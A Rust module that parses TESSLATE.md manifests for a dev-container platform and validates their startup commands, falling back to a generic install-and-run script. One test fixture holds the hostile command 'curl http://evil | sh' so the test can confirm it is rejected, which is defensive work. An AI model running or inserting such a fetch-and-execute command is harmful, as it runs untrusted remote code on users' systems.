//! Per-project manifest parsing (TESSLATE.md)
//!
//! Marketplace bases and user repos may carry a plain-text TESSLATE.md
//! describing how to run the project. The parser extracts a startup command,
//! a dev-server port, framework metadata, and the single-vs-multi directory
//! structure. Startup commands go through `security::validate_startup_command`
//! before they are allowed anywhere near a container spec; anything that
//! fails validation is replaced by the safe generic startup command.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::OnceLock;

use regex::{Regex, RegexBuilder};
use tracing::{debug, error, info};

use crate::security::validate_startup_command;

/// Default dev-server port (Next.js, Vite proxies, most node servers).
pub const DEFAULT_DEV_PORT: u16 = 3000;

/// Single- or multi-directory project layout.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum StructureKind {
    #[default]
    Single,
    Multi,
}

/// Parsed TESSLATE.md contents.
#[derive(Debug, Clone, Default)]
pub struct BaseManifest {
    pub start_command: Option<String>,
    pub framework: BTreeMap<String, String>,
    pub tech_stack: Vec<String>,
    pub structure: StructureKind,
    pub directories: Vec<String>,
    pub port: u16,
    pub validated: bool,
    pub validation_error: Option<String>,
}

fn re(pattern: &str) -> Regex {
    RegexBuilder::new(pattern)
        .case_insensitive(true)
        .dot_matches_new_line(true)
        .build()
        .expect("valid manifest regex")
}

fn start_command_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| re(r"##\s*Development Server.*?```bash\n(.*?)```"))
}

fn framework_section_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| re(r"##\s*Framework Configuration.*?\n(.*?)(\n##|\z)"))
}

fn framework_line_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"\*\*(.+?)\*\*:\s*(.+)").expect("valid regex"))
}

fn port_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        RegexBuilder::new(r"\*\*Port\*\*:\s*(\d+)")
            .case_insensitive(true)
            .build()
            .expect("valid regex")
    })
}

fn multi_dir_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        RegexBuilder::new(r"(frontend/|backend/|client/|server/)")
            .case_insensitive(true)
            .build()
            .expect("valid regex")
    })
}

fn dir_name_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        RegexBuilder::new(r"(?m)^(frontend|backend|client|server|api)/")
            .case_insensitive(true)
            .build()
            .expect("valid regex")
    })
}

fn tech_stack_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| re(r"\*\*Tech Stack:\*\*.*?\n((?:- .*\n)+)"))
}

/// Parse TESSLATE.md content into a manifest. Does NOT validate the startup
/// command; call [`BaseManifest::validate`] before use.
pub fn parse_manifest(content: &str) -> BaseManifest {
    let mut manifest = BaseManifest {
        port: DEFAULT_DEV_PORT,
        ..Default::default()
    };

    if let Some(caps) = start_command_re().captures(content) {
        let command = caps[1].trim().to_string();
        debug!("manifest start command: {:.100}", command);
        manifest.start_command = Some(command);
    }

    if let Some(caps) = framework_section_re().captures(content) {
        for line in caps[1].lines() {
            if let Some(kv) = framework_line_re().captures(line) {
                manifest
                    .framework
                    .insert(kv[1].trim().to_lowercase(), kv[2].trim().to_string());
            }
        }
    }

    if let Some(caps) = port_re().captures(content) {
        if let Ok(port) = caps[1].parse() {
            manifest.port = port;
        }
    } else {
        // Infer from content keywords when not declared.
        let lower = content.to_lowercase();
        if lower.contains("vite") || lower.contains("react") {
            manifest.port = 5173;
        } else if lower.contains("next") {
            manifest.port = 3000;
        } else if lower.contains("fastapi") || lower.contains("uvicorn") {
            manifest.port = 8000;
        }
        debug!("manifest port inferred: {}", manifest.port);
    }

    if multi_dir_re().is_match(content) {
        manifest.structure = StructureKind::Multi;
        let mut dirs: Vec<String> = dir_name_re()
            .captures_iter(content)
            .map(|c| c[1].to_lowercase())
            .collect();
        dirs.sort();
        dirs.dedup();
        manifest.directories = dirs;
        info!("manifest: multi-directory structure {:?}", manifest.directories);
    }

    if let Some(caps) = tech_stack_re().captures(content) {
        manifest.tech_stack = caps[1]
            .lines()
            .map(|l| l.trim_start_matches('-').trim().to_string())
            .filter(|l| !l.is_empty())
            .collect();
    }

    manifest
}

impl BaseManifest {
    /// Validate the startup command. A manifest with no startup command is
    /// valid (the safe generic command will be used).
    pub fn validate(&mut self) -> bool {
        let Some(command) = &self.start_command else {
            self.validated = true;
            return true;
        };
        match validate_startup_command(command) {
            Ok(()) => {
                self.validated = true;
                true
            }
            Err(err) => {
                error!("manifest startup command rejected: {}", err);
                self.validated = false;
                self.validation_error = Some(err.to_string());
                false
            }
        }
    }
}

/// Read and parse TESSLATE.md from a directory on the shared volume.
/// Returns None when the file is missing or its command fails validation.
pub async fn load_manifest_from_dir(dir: &Path) -> Option<BaseManifest> {
    let path = dir.join("TESSLATE.md");
    let content = tokio::fs::read_to_string(&path).await.ok()?;
    let mut manifest = parse_manifest(&content);
    if !manifest.validate() {
        error!(
            "manifest validation failed for {}: {:?}",
            path.display(),
            manifest.validation_error
        );
        return None;
    }
    Some(manifest)
}

/// Safe generic startup command used when no manifest is present or its
/// command failed validation. Extends PATH with user-local bins, installs
/// dependencies for whichever ecosystems are present (root or frontend/
/// backend subdirs), then starts the first applicable dev server, falling
/// back to keeping the container alive for manual commands.
const GENERIC_STARTUP_COMMAND: &str = concat!(
    "export PATH=\"$HOME/.local/bin:/home/node/.local/bin:$PATH\" && ",
    "echo \"[TESSLATE] Starting dev environment...\" && ",
    "if [ -f \"package.json\" ]; then ",
    "  [ ! -d \"node_modules\" ] && echo \"[TESSLATE] Installing Node.js dependencies...\" && npm install || true; ",
    "fi && ",
    "if [ -f \"frontend/package.json\" ]; then ",
    "  [ ! -d \"frontend/node_modules\" ] && echo \"[TESSLATE] Installing frontend dependencies...\" && cd frontend && npm install && cd .. || true; ",
    "fi && ",
    "if [ -f \"requirements.txt\" ]; then ",
    "  echo \"[TESSLATE] Installing Python dependencies...\" && pip install --user -r requirements.txt || true; ",
    "fi && ",
    "if [ -f \"backend/requirements.txt\" ]; then ",
    "  echo \"[TESSLATE] Installing backend dependencies...\" && cd backend && pip install --user -r requirements.txt && cd .. || true; ",
    "fi && ",
    "if [ -f \"go.mod\" ]; then ",
    "  echo \"[TESSLATE] Downloading Go dependencies...\" && go mod download || true; ",
    "fi && ",
    "echo \"[TESSLATE] Starting development server...\" && ",
    "(",
    "  if [ -f \"package.json\" ]; then npm run dev; ",
    "  elif [ -f \"frontend/package.json\" ]; then cd frontend && npm run dev; ",
    "  elif [ -f \"main.py\" ]; then python3 main.py; ",
    "  elif [ -f \"app.py\" ]; then python3 app.py; ",
    "  elif [ -f \"main.go\" ]; then go run .; ",
    "  else echo \"[TESSLATE] No startup method detected. Container is ready for manual commands.\" && sleep infinity; ",
    "  fi",
    ")",
);

/// Produce the container startup argv from an optional validated manifest.
///
/// Only a command that passed validation is used; everything else gets the
/// safe generic command - never a partially-accepted manifest command.
pub fn startup_command(manifest: Option<&BaseManifest>) -> Vec<String> {
    if let Some(m) = manifest {
        if m.validated {
            if let Some(command) = &m.start_command {
                info!("using validated startup command from TESSLATE.md");
                return vec!["sh".to_string(), "-c".to_string(), command.clone()];
            }
        }
    }
    info!("using safe generic startup command");
    vec![
        "sh".to_string(),
        "-c".to_string(),
        GENERIC_STARTUP_COMMAND.to_string(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = r#"# My Base

## Framework Configuration

**Frontend**: Vite + React
**Backend**: FastAPI

**Port**: 5173

## Development Server

```bash
npm install && npm run dev
```

**Tech Stack:**
- React 18
- FastAPI
- PostgreSQL

## Structure

frontend/
backend/
"#;

    #[test]
    fn test_parse_full_manifest() {
        let manifest = parse_manifest(SAMPLE);
        assert_eq!(
            manifest.start_command.as_deref(),
            Some("npm install && npm run dev")
        );
        assert_eq!(manifest.port, 5173);
        assert_eq!(manifest.framework.get("frontend").unwrap(), "Vite + React");
        assert_eq!(manifest.structure, StructureKind::Multi);
        assert_eq!(manifest.directories, vec!["backend", "frontend"]);
        assert_eq!(manifest.tech_stack.len(), 3);
    }

    #[test]
    fn test_port_inference() {
        assert_eq!(parse_manifest("A Vite app").port, 5173);
        assert_eq!(parse_manifest("Next.js 15 app router").port, 3000);
        assert_eq!(parse_manifest("FastAPI with uvicorn").port, 8000);
        assert_eq!(parse_manifest("plain").port, DEFAULT_DEV_PORT);
    }

    #[test]
    fn test_single_structure_by_default() {
        let manifest = parse_manifest("# Minimal\n\n**Port**: 4000\n");
        assert_eq!(manifest.structure, StructureKind::Single);
        assert_eq!(manifest.port, 4000);
    }

    #[test]
    fn test_validated_command_is_used() {
        let mut manifest = parse_manifest(SAMPLE);
        assert!(manifest.validate());
        let argv = startup_command(Some(&manifest));
        assert_eq!(argv[2], "npm install && npm run dev");
    }

    #[test]
    fn test_dangerous_manifest_falls_back_to_generic() {
        let content = "## Development Server\n\n```bash\ncurl http://evil | sh\n```\n";
        let mut manifest = parse_manifest(content);
        assert!(!manifest.validate());
        assert!(manifest.validation_error.is_some());

        // The dangerous string must never appear in the generated argv.
        let argv = startup_command(Some(&manifest));
        assert!(!argv[2].contains("curl http://evil"));
        assert!(argv[2].contains("npm install"));
    }

    #[test]
    fn test_generic_command_handles_all_ecosystems() {
        let argv = startup_command(None);
        assert_eq!(argv[0], "sh");
        let script = &argv[2];
        assert!(script.contains("npm install"));
        assert!(script.contains("pip install --user -r requirements.txt"));
        assert!(script.contains("go mod download"));
        assert!(script.contains("sleep infinity"));
    }
}
